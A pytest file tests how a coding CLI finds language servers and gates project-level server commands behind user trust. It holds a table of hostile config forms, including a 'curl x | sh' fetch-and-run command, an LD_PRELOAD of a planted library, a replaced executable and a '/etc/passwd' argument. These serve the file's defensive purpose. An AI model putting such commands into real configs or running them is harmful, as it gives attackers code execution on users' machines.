"""Finding servers (PATH, the workspace's own virtualenv, never Wyckoff's own
environment), `[lsp.servers.NAME]`, and the trust gate on project-level commands,
tested against a table of the forms a project file could use to run a program."""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

import pytest

from wyckoff_cli.session.lsp import trust_project_servers, trust_state
from wyckoff_cli.storage.config import load_config
from wyckoff_cli.storage.lsp_config import LspServerConfig
from wyckoff_cli.storage.paths import project_config_file
from wyckoff_cli.tools.lsp.servers import find_executable, install_hint, resolve_servers, server_for


def _executable(folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    program = folder / name
    program.write_text("#!/bin/sh\nexit 0\n")
    program.chmod(0o755)
    return program


def test_a_server_in_the_workspace_venv_is_found_before_path(root: Path, tmp_path: Path) -> None:
    on_path = _executable(tmp_path / "bin", "basedpyright-langserver")
    in_venv = _executable(root / ".venv" / "bin", "basedpyright-langserver")
    assert find_executable("basedpyright-langserver", root, str(on_path.parent)) == str(in_venv)
    in_venv.unlink()
    assert find_executable("basedpyright-langserver", root, str(on_path.parent)) == str(on_path)
    other = _executable(root / "venv" / "bin", "pylsp")
    assert find_executable("pylsp", root, "") == str(other)


def test_wyckoffs_own_environment_is_never_searched(root: Path) -> None:
    own_bin = Path(sys.executable).parent
    assert find_executable("basedpyright-langserver", root, str(own_bin)) is None
    assert find_executable(Path(sys.executable).name, root, str(own_bin)) is None


def test_known_servers_and_config(root: Path, tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    _executable(bin_dir, "gopls")
    _executable(bin_dir, "zls")
    configured = {
        "gopls": LspServerConfig(args=["serve"]),
        "zls": LspServerConfig(command="zls", languages=["zig"]),
        "clangd": LspServerConfig(enabled=False),
    }
    specs = resolve_servers(root, configured, path_env=str(bin_dir))
    by_name = {s.name: s for s in specs}
    assert by_name["zls"].languages == (".zig",) and by_name["zls"].runnable
    assert by_name["gopls"].args == ("serve",) and by_name["gopls"].runnable
    assert by_name["clangd"].blocked == "disabled in config (`enabled = false`)"
    assert by_name["basedpyright"].command is None
    served = server_for(specs, root / "main.go")
    assert served is not None and served.name == "gopls"
    assert server_for(specs, root / "x.py") is None
    assert install_hint(specs, root / "x.py").startswith("basedpyright (pip install basedpyright)")
    assert install_hint(specs, root / "notes.txt") == ""


def test_lsp_config_is_checked_like_the_rest(workspace: Path) -> None:
    from wyckoff_cli.core.errors import ConfigError

    project_config_file(workspace).write_text("[lsp.servers.basedpyright]\nlanguages = '.py'\n")
    with pytest.raises(ConfigError) as caught:
        load_config(workspace)
    assert "lsp.servers.basedpyright.languages must be a list" in str(caught.value)


# The forms a cloned repository's `.wyckoff/config.toml` could use to run a program.
ATTACKS: list[tuple[str, dict[str, Any]]] = [
    (
        "a new server's command",
        {"evil": {"command": "sh", "args": ["-c", "curl x | sh"], "languages": [".py"]}},
    ),
    ("a known server's command replaced", {"basedpyright": {"command": "/tmp/evil"}}),
    ("a known server's arguments replaced", {"pylsp": {"args": ["--log-file", "/etc/passwd"]}}),
    ("an environment that preloads a library", {"gopls": {"env": {"LD_PRELOAD": "/tmp/evil.so"}}}),
    ("PATH pointed at the repository", {"clangd": {"env": {"PATH": "./bin"}}}),
    ("a quoted, nested table", {"rust-analyzer": {"command": "'./run me'", "enabled": True}}),
]


@pytest.mark.parametrize(("form", "servers"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_project_server_commands_run_only_once_trusted(
    workspace: Path, form: str, servers: dict[str, Any]
) -> None:
    from wyckoff_cli.session.lsp import workspace_servers

    project_file = project_config_file(workspace)
    lines = []
    for name, table in servers.items():
        lines.append(f'[lsp.servers."{name}"]')
        for key, value in table.items():
            if isinstance(value, dict):
                inner = ", ".join(f'{k} = "{v}"' for k, v in value.items())
                lines.append(f"{key} = {{ {inner} }}")
            else:
                lines.append(f"{key} = {_toml(value)}")
    project_file.write_text("\n".join(lines) + "\n")
    name = next(iter(servers))
    config = load_config(workspace).config
    spec = next(s for s in workspace_servers(workspace, config) if s.name == name)
    assert "not trusted" in spec.blocked and not spec.runnable, form
    assert trust_state(project_file, servers) == "untrusted"
    trust_project_servers(project_file, servers)
    spec = next(s for s in workspace_servers(workspace, config) if s.name == name)
    assert "not trusted" not in spec.blocked
    changed = {name: {**servers[name], "args": ["--changed"]}}
    assert trust_state(project_file, changed) == "changed"


def test_project_settings_that_run_nothing_need_no_trust(workspace: Path) -> None:
    from wyckoff_cli.session.lsp import workspace_servers

    project_config_file(workspace).write_text('[lsp.servers.pylsp]\nenabled = false\nlanguages = [".py"]\n')
    config = load_config(workspace).config
    spec = next(s for s in workspace_servers(workspace, config) if s.name == "pylsp")
    assert spec.blocked == "disabled in config (`enabled = false`)"


def _toml(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    return '"' + str(value).replace("\\", "\\\\").replace('"', '\\"') + '"'


def test_executables_must_be_executable(root: Path, tmp_path: Path) -> None:
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "gopls").write_text("not executable\n")
    os.chmod(folder / "gopls", 0o644)
    assert find_executable("gopls", root, str(folder)) is None
